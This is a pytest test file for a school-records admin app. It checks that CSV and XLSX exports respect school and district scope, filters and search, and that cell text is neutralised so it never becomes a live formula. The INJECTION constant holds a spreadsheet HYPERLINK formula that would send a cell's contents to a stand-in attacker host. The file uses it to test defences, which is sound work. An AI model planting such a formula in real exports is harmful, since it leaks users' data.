"""Exports (issue 6, part 3): any list a user can see, as CSV and XLSX, with the list's scope, filters and
search, streamed; text never becomes a live formula in a spreadsheet."""
from __future__ import annotations

import csv
import io

import sqlalchemy as sa
from conftest import category, student_of
from openpyxl import load_workbook

from models import Record, Student, db, policy, workflow
from views.export import csv_safe

INJECTION = '=HYPERLINK("http://evil.example/?q="&A1,"点我")'


def _honour(student, title: str) -> Record:
    rec = Record(term=policy.current_term(student.school.district_id), category=category("honour_title"),
                 student=student, school_id=student.school_id, origin="school", state="entered",
                 data={"title": title, "level": "校级", "issuer": "学校", "awarded_on": "2022-01-10"})
    db.session.add(rec)
    db.session.commit()
    return rec


def _csv(resp) -> list[list[str]]:
    text = resp.get_data(as_text=True)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_csv_export_is_scoped_streamed_and_formula_safe(client, login_as, at):
    at("2022-03-01 09:00")
    mine = _honour(student_of("s1g9c1n01"), INJECTION)
    theirs = _honour(student_of("s2g9c1n01"), "别校的荣誉")
    login_as("s1_clerk")
    resp = client.get("/admin/records/honour_title/export/csv/")
    assert resp.status_code == 200 and resp.is_streamed
    assert resp.mimetype == "text/csv" and "attachment" in resp.headers["Content-Disposition"]
    rows = _csv(resp)
    assert rows[0][:3] == ["学籍号", "学生", "班级"]
    body = rows[1:]
    titles = [r[3] for r in body]
    assert "'" + INJECTION in titles and INJECTION not in titles  # stays text in Excel / WPS
    assert "别校的荣誉" not in titles and len(body) >= 1
    school1 = {s.name for s in db.session.execute(sa.select(Student).where(
        Student.school_id == mine.school_id)).scalars()}
    assert {r[1] for r in body} <= school1
    # The district sees both schools' rows.
    login_as("district_clerk")
    titles = [r[3] for r in _csv(client.get("/admin/records/honour_title/export/csv/"))[1:]]
    assert "别校的荣誉" in titles and theirs.student.name in {r[1] for r in _csv(
        client.get("/admin/records/honour_title/export/csv/"))[1:]}


def test_xlsx_export_keeps_text_as_text_and_follows_the_search(client, login_as, at):
    at("2022-03-01 09:00")
    a = student_of("s1g9c1n01")
    _honour(a, INJECTION)
    _honour(student_of("s1g9c1n02"), "三好学生")
    login_as("s1_clerk")
    resp = client.get(f"/admin/records/honour_title/export/xlsx/?search={a.name}")
    assert resp.status_code == 200 and resp.is_streamed
    assert resp.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    wb = load_workbook(io.BytesIO(resp.get_data()))
    ws = wb.worksheets[0]
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0][:3] == ("学籍号", "学生", "班级")
    assert {r[1] for r in rows[1:]} == {a.name}  # the search applies to the export
    cells = [row[3] for row in ws.iter_rows(min_row=2)]
    injected = [c for c in cells if c.value == INJECTION]
    assert injected and all(c.data_type == "s" for c in injected)  # a string, not a formula


def test_case_queue_export_follows_filters(client, login_as, at):
    at("2022-04-01 09:00")
    a = student_of("s1g9c1n01")
    rec = _honour(a, "区三好学生")
    rec.state = "confirmed"
    db.session.commit()
    from models import User

    filer = db.session.execute(sa.select(User).where(User.username == "s1g9c1n01")).scalar_one()
    workflow.file_appeal(filer, a, kind="error", description="级别应为区级", record=rec)
    login_as("s1_auditor")
    rows = _csv(client.get("/admin/cases/export/csv/"))
    assert rows[0] == ["编号", "流程", "类型", "学生", "班级", "学校", "类别", "状态", "提交时间", "办理截止"]
    assert a.name in {r[3] for r in rows[1:]}
    # A class filter that excludes the student's class exports no rows of that student.
    other_class = db.session.execute(sa.select(Student.class_id).where(
        Student.school_id == a.school_id, Student.class_id != a.class_id)).scalars().first()
    rows = _csv(client.get(f"/admin/cases/export/csv/?flt0_1={other_class}"))
    assert a.name not in {r[3] for r in rows[1:]}
    login_as("s2_auditor")
    assert a.name not in {r[3] for r in _csv(client.get("/admin/cases/export/csv/"))[1:]}


def test_unknown_export_type_is_404(client, login_as):
    login_as("s1_clerk")
    assert client.get("/admin/records/honour_title/export/json/").status_code == 404


def test_csv_safe():
    assert [csv_safe(v) for v in ("=1+1", "+86", "-3", "@SUM(A1)", "\tx", "安全", None, 5)] == [
        "'=1+1", "'+86", "'-3", "'@SUM(A1)", "'\tx", "安全", "", "5"]
